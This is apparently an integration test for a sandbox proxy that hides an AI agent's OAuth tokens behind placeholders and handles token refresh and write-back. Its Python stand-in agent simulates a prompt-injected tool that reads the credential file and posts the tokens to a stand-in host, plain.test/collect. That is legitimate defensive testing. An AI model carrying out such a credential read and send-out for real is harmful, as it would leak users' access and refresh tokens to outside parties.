#!/usr/bin/env bash
# An agent signed in with OAuth (issue 45), run whole in the sandbox with the shipped profile
# profiles/agents/claude.json: its tokens sit in ~/.claude/.credentials.json (claudeAiOauth's
# accessToken and refreshToken). Inside, that file is a writable copy holding placeholders; the
# proxy puts the access token into Authorization on requests to api.anthropic.com and the
# refresh token into the body of the token request to console.anthropic.com. When the token
# endpoint answers a refresh, the new tokens reach the agent as new placeholders; the proxy
# keeps their values, puts the new access token into the next call and writes both into the
# user's file outside. The agent is a stand-in (python) that does what Claude Code does on the
# wire; the endpoints are the HTTPS echo of tests/integration/egress_world_secrets.sh (its
# /v1/oauth/token issues new tokens). Judged from the host: what the endpoints received, what
# the agent saw, the user's file after the run, the audit; a second run starts from the new
# tokens; a credential file that does not parse stops the run.
source "$(dirname "$0")/lib.sh"

new_workspace
require_sandbox || finish

need_source_tree profiles/agents/claude.json
PROFILE=$SRC/profiles/agents/claude.json
WD=$(dirname "$EGW_LOG")
SLOG=$WD/secrets.log
ACCESS="sk-ant-oat01-exgtest-$(rnd)$(rnd)"
REFRESH="sk-ant-ort01-exgtest-$(rnd)$(rnd)"
unset ANTHROPIC_API_KEY
audit=$T/audit.jsonl
CRED=$HOME/.claude/.credentials.json
mkdir -p "$HOME/.claude" && echo '{}' > "$HOME/.claude/settings.json"
chmod -R a+rwX "$HOME/.claude"
printf '{"claudeAiOauth":{"accessToken":"%s","refreshToken":"%s","expiresAt":1,"scopes":["user:inference"],"subscriptionType":"max"}}\n' \
    "$ACCESS" "$REFRESH" > "$CRED"
chmod 600 "$CRED"
# What the endpoint issues for a refresh token (egress_world_secrets.sh).
issued() { python3 -c "import hashlib,sys; print(sys.argv[2] + hashlib.sha256((sys.argv[1] + sys.argv[3]).encode()).hexdigest()[:32])" "$@"; }
NEW_ACCESS=$(issued "$REFRESH" sk-ant-oat01-new- a)
NEW_REFRESH=$(issued "$REFRESH" sk-ant-ort01-new- r)

mkdir -p "$WS/bin"
cat > "$WS/bin/claude" <<'PY'
#!/usr/bin/env python3
# A stand-in for Claude Code signed in with OAuth: a turn, a refresh, the new tokens saved, a turn.
import json, os, subprocess, sys, requests
path = os.path.expanduser("~/.claude/.credentials.json")
cred = json.load(open(path))["claudeAiOauth"]
print("ACCESS", cred["accessToken"])
print("REFRESH", cred["refreshToken"])
s = requests.Session()
def turn(token, n, tool_result=""):
    r = s.post("https://api.anthropic.com/v1/messages", json={"model": "m", "turn": n, "tool_result": tool_result},
               headers={"authorization": "Bearer " + token, "anthropic-beta": "oauth-2025-04-20"}, timeout=15)
    print("TURN", n, r.status_code, r.text[:300].replace("\n", " "))
turn(cred["accessToken"], 1)
if "--once" in sys.argv:
    sys.exit(0)
r = s.post("https://console.anthropic.com/v1/oauth/token",
           json={"grant_type": "refresh_token", "refresh_token": cred["refreshToken"], "client_id": "stand-in"}, timeout=15)
new = r.json()
print("REFRESHED", r.status_code, new.get("access_token"), new.get("refresh_token"))
cred.update(accessToken=new["access_token"], refreshToken=new["refresh_token"], expiresAt=2)
try:
    with open(path, "w") as f:
        json.dump({"claudeAiOauth": cred}, f)
    print("SAVED")
except OSError as e:
    print("SAVE refused", e.errno)
# A tool the agent runs reads the credential file (as a prompt injection would ask); its output
# goes back to the model in the next turn, and to a host the profile does not give the tokens to.
tool = subprocess.run(["cat", path], capture_output=True, text=True).stdout.strip()
print("TOOL", tool)
turn(cred["accessToken"], 2, tool)
r = requests.post("https://plain.test/collect", data=tool, timeout=15,
                  headers={"authorization": "Bearer " + cred["accessToken"], "x-refresh": cred["refreshToken"]})
print("ELSEWHERE", r.status_code)
PY
chmod 755 "$WS/bin/claude"

# plain.test: allowed, but none of the tokens is for it.
echo '{"network": {"allowedDomains": ["plain.test"]}}' > "$T/plain.json"
run sbx --policy "$PROFILE" --policy "$T/plain.json" --audit-log "$audit" -- "$WS/bin/claude"
check "the run succeeded (status $STATUS)" test "$STATUS" = 0
[ "$STATUS" = 0 ] || show_last
PA=$(sed -n 's/^ACCESS //p' <<<"$OUT")
PR=$(sed -n 's/^REFRESH //p' <<<"$OUT")
read -r _ rstatus NPA NPR <<<"$(grep '^REFRESHED ' <<<"$OUT")"
check "inside, the file's access token is a placeholder ($PA)" grep -qE '^exg_ph_CLAUDE_OAUTH_ACCESS_TOKEN_[0-9a-f]{32}$' <<<"$PA"
check "inside, the file's refresh token is a placeholder ($PR)" grep -qE '^exg_ph_CLAUDE_OAUTH_REFRESH_TOKEN_[0-9a-f]{32}$' <<<"$PR"
check "both turns and the refresh answered ($(grep '^TURN 2' <<<"$OUT" | head -c 300))" test "$(grep -c '^TURN [12] 200 ' <<<"$OUT")/$rstatus" = 2/200
check "the refreshed tokens reached the agent as new placeholders ($NPA $NPR)" \
    bash -c '[[ $0 =~ ^exg_ph_CLAUDE_OAUTH_ACCESS_TOKEN_[0-9a-f]{32}$ && $1 =~ ^exg_ph_CLAUDE_OAUTH_REFRESH_TOKEN_[0-9a-f]{32}$ && $0 != $2 && $1 != $3 ]]' \
    "$NPA" "$NPR" "$PA" "$PR"
check "the agent saved them in its credential file inside" grep -qx SAVED <<<"$OUT"
for v in "$ACCESS" "$REFRESH" "$NEW_ACCESS" "$NEW_REFRESH"; do
    last_output_lacks "$v" "the agent and its tools never saw a real token (${v:0:24}...)"
done
check "the tool reading the file inside saw the new placeholders" grep -qF "\"accessToken\": \"$NPA\"" <<<"$(grep '^TOOL ' <<<"$OUT")"
check "the endpoint got the real access token in turn 1, the new one in turn 2, the real refresh token in the token request" python3 -c "
import json, sys
recs = [json.loads(l) for l in open('$SLOG')]
auth = [dict((k.lower(), v) for k, v in r['headers'])['authorization'] for r in recs if r['path'] == '/v1/messages']
assert auth == ['Bearer $ACCESS', 'Bearer $NEW_ACCESS'], auth
tok = [r for r in recs if r['path'] == '/v1/oauth/token']
assert len(tok) == 1 and json.loads(tok[0]['body'])['refresh_token'] == '$REFRESH', tok
assert tok[0]['issued']['access_token'] == '$NEW_ACCESS', tok"
check "no real token anywhere else: the tool's output reached api.anthropic.com (turn 2's body) and plain.test as placeholders" python3 -c "
import json
recs = [json.loads(l) for l in open('$SLOG')]
def host(r): return dict((k.lower(), v) for k, v in r['headers'])['host']
elsewhere = [r for r in recs if host(r) == 'plain.test']
assert len(elsewhere) == 1, recs
turn2 = [r for r in recs if r['path'] == '/v1/messages'][1]
for r in (elsewhere[0], turn2):
    seen = json.dumps(r['headers']) + r['body']
    assert '$NPA' in seen and '$NPR' in seen, r
for r in recs:
    sent = json.dumps(r['headers']) + r['body']  # (not what the token endpoint issued)
    expected = {'/v1/messages': ['$ACCESS', '$NEW_ACCESS'], '/v1/oauth/token': ['$REFRESH']}.get(r['path'], [])
    for v in ('$ACCESS', '$REFRESH', '$NEW_ACCESS', '$NEW_REFRESH'):
        assert v not in sent or (v in expected and host(r) != 'plain.test'), (v[:24], r['path'], host(r))
assert sum('$NEW_ACCESS' in json.dumps(r['headers']) for r in recs) == 1
assert not any('$ACCESS' in r['body'] or '$NEW_ACCESS' in r['body'] for r in recs)"
check "the tool's request to plain.test went on with the placeholders (status $(sed -n 's/^ELSEWHERE //p' <<<"$OUT"))" \
    grep -qx 'ELSEWHERE 200' <<<"$OUT"
check "the user's file outside holds the new real tokens, its other fields kept" python3 -c "
import json
c = json.load(open('$CRED'))['claudeAiOauth']
assert (c['accessToken'], c['refreshToken'], c['subscriptionType']) == ('$NEW_ACCESS', '$NEW_REFRESH', 'max'), c"
check "... no placeholder in it, its mode still 600" bash -c '! grep -q exg_ph_ "$0" && test "$(stat -c %a "$0")" = 600' "$CRED"
check "audit: both tokens refreshed and written back" python3 -c "
import json
ls = [json.loads(l) for l in open('$audit') if '\"token_refreshed\"' in l]
got = sorted((l['secret'], l['field'], l.get('file'), 'write_back_error' in l) for l in ls)
assert got == [('CLAUDE_OAUTH_ACCESS_TOKEN', 'access_token', '$CRED', False),
               ('CLAUDE_OAUTH_REFRESH_TOKEN', 'refresh_token', '$CRED', False)], ls"

# The next run starts from the refreshed tokens.
before=$(wc -l < "$SLOG")  # (the log is the world's, not the test user's to truncate)
run sbx --policy "$PROFILE" --audit-log "$audit" -- "$WS/bin/claude" --once
check "a second run works from the new tokens (status $STATUS)" grep -q '^TURN 1 200 ' <<<"$OUT"
check "... the endpoint got the new access token" \
    grep -qiF "[\"authorization\", \"Bearer $NEW_ACCESS\"]" <<<"$(tail -n +$((before + 1)) "$SLOG")"

# A credential file that does not parse could hide a token: nothing runs.
echo '{"claudeAiOauth": {"accessToken": "'"$NEW_ACCESS"'", ' > "$CRED"
run sbx --policy "$PROFILE" -- true
check "an unparseable credential file stops the run (status $STATUS)" test "$STATUS" = 125
check "... the error names the file" grep -qF "$CRED is not valid JSON" <<<"$ERR"

finish
